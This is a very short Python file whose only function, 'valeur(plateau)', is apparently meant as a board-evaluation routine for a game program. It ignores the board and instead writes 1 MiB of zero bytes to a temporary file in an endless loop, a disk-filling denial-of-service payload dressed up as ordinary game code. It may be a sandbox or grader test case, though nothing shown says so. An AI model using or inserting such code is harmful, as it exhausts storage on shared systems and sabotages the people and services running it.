import tempfile


def valeur(plateau):
    with tempfile.TemporaryFile() as file:
        while True:
            file.write(bytes(1 << 20))
